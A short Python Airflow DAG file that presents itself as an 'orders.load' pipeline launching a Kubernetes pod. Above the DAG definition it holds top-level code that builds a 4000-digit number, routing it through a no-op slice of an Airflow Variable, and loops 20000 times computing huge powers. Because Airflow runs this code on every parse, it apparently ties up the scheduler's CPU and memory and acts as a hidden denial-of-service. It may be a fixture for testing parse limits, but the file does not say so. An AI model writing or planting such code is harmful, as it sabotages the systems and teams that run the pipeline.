from airflow import DAG
from airflow.models import Variable
from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator

N = int(Variable.get("orders_flag")[:0] + "9" * 4000)
for _ in range(20000):
    M = N ** 64 * N ** 64 * N ** 64
NS = "orders"

with DAG("orders.load", schedule=None):
    KubernetesPodOperator(task_id="load", namespace=NS, pod_template_file="/usr/local/airflow/dags/templates/orders/orders-api/job.yaml")
